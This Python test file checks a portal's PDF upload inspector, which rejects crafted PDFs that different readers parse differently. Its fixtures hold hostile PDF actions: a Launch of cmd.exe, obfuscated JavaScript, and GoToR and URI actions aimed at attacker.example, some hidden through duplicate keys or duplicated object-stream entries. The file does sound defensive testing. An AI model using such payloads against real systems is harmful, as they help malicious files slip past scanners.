"""A PDF that readers interpret differently is rejected, because an action could be hidden in it."""

import io
import logging
import struct
import zlib

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, NameObject

from portal.adapters.inspection import pdf
from portal.adapters.inspection.inspection import Inspected, inspect
from portal.platform.errors import UploadReason, UploadRefused
from tests.parts import files, pdfs
from tests.parts.pdfs import action, changed, on_click, opens_with

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
RUNS = {
    "a program": b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>",
    "a script": b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/JS(app.alert\\(1\\))>>>>",
    "a file elsewhere": b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F(//attacker.example/x)/D[0/Fit]>>>>",
    "a file inside": b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)<</F(a)/EF<</F 4 0 R>>>>]>>>>>>",
}
PAGES = [
    (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
    (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>"),
]


def holder(number: int, objects: list[tuple[int, bytes]]) -> bytes:
    places, body = [], b""
    for one, content in objects:
        places.append(b"%d %d " % (one, len(body)))
        body += content + b" "
    head = b"".join(places)
    packed = zlib.compress(head + body)
    return b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        number,
        len(objects),
        len(head),
        len(packed),
        packed,
    )


def of_streams(*streams: list[tuple[int, bytes]], catalogue: tuple[int, int]) -> bytes:
    """Streams of objects are numbered from 10. catalogue: the stream, and the index there, of object 1."""
    out, rows = b"%PDF-1.7\n", {1: (2, *catalogue)}
    for stream, objects in enumerate(streams, 10):
        rows[stream] = (1, len(out), 0)
        for index, (number, _) in enumerate(objects):
            rows.setdefault(number, (2, stream, index))
        out += holder(stream, objects)
    rows[20] = (1, len(out), 0)
    table = b"".join(struct.pack("!BIH", *rows.get(number, (0, 0, 0))) for number in range(21))
    return out + (
        b"20 0 obj\n<</Type/XRef/Size 21/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(table), table, len(out))
    )


def inspected(content: bytes) -> Inspected:
    return inspect(io.BytesIO(content), max_bytes=1_000_000)


def refused(content: bytes) -> UploadReason:
    with pytest.raises(UploadRefused) as raised:
        inspected(content)
    return raised.value.reason


@pytest.mark.parametrize("index", [0, 1])
@pytest.mark.parametrize("hidden", RUNS.values(), ids=RUNS)
def test_an_object_stream_that_lists_a_number_twice_is_rejected(hidden: bytes, index: int) -> None:
    content = of_streams([(1, CATALOGUE), (1, hidden), *PAGES], catalogue=(10, index))
    assert refused(content) == UploadReason.SUSPICIOUS


@pytest.mark.parametrize("hidden", [RUNS["a file elsewhere"], CATALOGUE], ids=["an action", "nothing"])
def test_a_table_with_the_index_of_another_object_is_rejected(hidden: bytes) -> None:
    assert refused(of_streams([(1, CATALOGUE), (5, hidden), *PAGES], catalogue=(10, 1))) in (
        UploadReason.DAMAGED,
        UploadReason.ACTIVE_CONTENT,
    )


@pytest.mark.parametrize("index", [4, 65_535])
def test_a_table_with_an_index_outside_the_stream_is_rejected(index: int) -> None:
    assert refused(of_streams([(1, CATALOGUE), (5, b"null"), *PAGES], catalogue=(10, index))) == UploadReason.DAMAGED


@pytest.mark.parametrize("hidden", RUNS.values(), ids=RUNS)
def test_an_action_in_a_stream_that_the_table_does_not_name_is_rejected(hidden: bytes) -> None:
    assert refused(of_streams([(1, CATALOGUE), *PAGES], [(1, hidden)], catalogue=(10, 0))) in (
        UploadReason.ACTIVE_CONTENT,
        UploadReason.EMBEDDED_FILES,
    )


def test_a_harmless_object_in_two_streams_is_accepted() -> None:
    assert inspected(of_streams([(1, CATALOGUE), *PAGES], [(1, CATALOGUE)], catalogue=(10, 0))).pages == 1
    assert inspected(of_streams([(1, CATALOGUE), *PAGES], [(1, CATALOGUE)], catalogue=(11, 0))).pages == 1


def revised(content: bytes) -> bytes:
    """Append changed objects and keep the old ones, as editing programs do."""
    writer = PdfWriter(PdfReader(io.BytesIO(content)), incremental=True)
    writer.root_object[NameObject("/PageMode")] = NameObject("/UseNone")
    writer.root_object.pop("/OpenAction", None)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_an_edited_document_is_accepted() -> None:
    content = revised(pdfs.packed(changed(on_click(action("URI", URI="https://marit.example/")))))
    assert content.count(b"startxref") == 2
    assert inspected(content).pages == 1


def test_an_edited_document_whose_earlier_version_had_an_action_is_rejected() -> None:
    content = pdfs.packed(changed(opens_with(action("GoToR", F="other.pdf", D=ArrayObject()))))
    assert refused(revised(content)) == UploadReason.ACTIVE_CONTENT


def with_catalogue(members: bytes, *, packed: bool) -> bytes:
    """A PDF whose catalogue has these members."""
    one = b"<</Type/Catalog/Pages 2 0 R%s>>" % members
    if packed:
        return of_streams([(1, one), *PAGES], catalogue=(10, 0))
    out, places = b"%PDF-1.7\n", []
    for number, content in [(1, one), *PAGES]:
        places.append(b"%010d 00000 n \n" % len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 4\n0000000000 65535 f \n" + b"".join(places)
    return out + table + b"trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)


GOES = b"/S/GoTo/D[3 0 R/Fit]"
FETCHES = b"/S/URI/URI(https://attacker.example/)"


@pytest.mark.parametrize(
    "members",
    [
        b"/OpenAction<<" + GOES + FETCHES + b">>",
        b"/OpenAction<<" + GOES + b"/#53/URI/URI(https://attacker.example/)>>",
        b"/OpenAction<<" + GOES + b">>/OpenAction<<" + FETCHES + b">>",
        b"/AA<</WC<<" + GOES + b">>>>/AA<</WC<<" + FETCHES + b">>>>",
        b"/AA<</WC<<" + GOES + b">>/WC<<" + FETCHES + b">>>>",
        b"/Names<<>>/Names<</Dests<<>>>>",
        b"/X[<</Subtype/Link/Subtype/Screen>>]",
    ],
)
@pytest.mark.parametrize("packed", [False, True])
def test_duplicate_keys_that_matter_are_rejected(members: bytes, packed: bool) -> None:
    assert refused(with_catalogue(members, packed=packed)) == UploadReason.SUSPICIOUS


@pytest.mark.parametrize("before", [b"/X foo", b"/X<</Y foo>>", b"/X<</Y/Z 5 5>>"])
@pytest.mark.parametrize("packed", [False, True])
def test_an_action_behind_unparsable_data_is_rejected(before: bytes, packed: bool) -> None:
    content = with_catalogue(before + b"/OpenAction<<" + FETCHES + b">>", packed=packed)
    assert refused(content) in (UploadReason.DAMAGED, UploadReason.ACTIVE_CONTENT)


@pytest.mark.parametrize(
    "members", [b"", b"/Type/Catalog", b"/PageMode/UseNone/PageMode/UseNone", b"/OpenAction<<" + GOES + b">>"]
)
@pytest.mark.parametrize("packed", [False, True])
def test_duplicate_keys_written_by_real_programs_are_accepted(members: bytes, packed: bool) -> None:
    assert inspected(with_catalogue(members, packed=packed)).pages == 1


def test_keys_repeated_a_hundred_thousand_times_are_rejected_in_time() -> None:
    assert refused(with_catalogue(b"/S 1" * 100_000, packed=True)) in (
        UploadReason.SUSPICIOUS,
        UploadReason.TOO_COMPLEX,
        UploadReason.DAMAGED,
    )


def test_duplicate_keys_are_found_with_logging_turned_down() -> None:
    log = logging.getLogger("pypdf")
    before = log.level
    log.setLevel(logging.CRITICAL)
    content = with_catalogue(b"/OpenAction<<" + GOES + FETCHES + b">>", packed=False)
    try:
        with pytest.raises(UploadRefused):
            pdf.pages(io.BytesIO(content), len(content))
    finally:
        log.setLevel(before)


def test_ordinary_pdfs_are_accepted() -> None:
    for name in ("cv.pdf", "scan.pdf"):
        assert inspected(files.real(name)).extension == "pdf"
    assert inspected(pdfs.packed(pdfs.typeset(3))).pages == 3
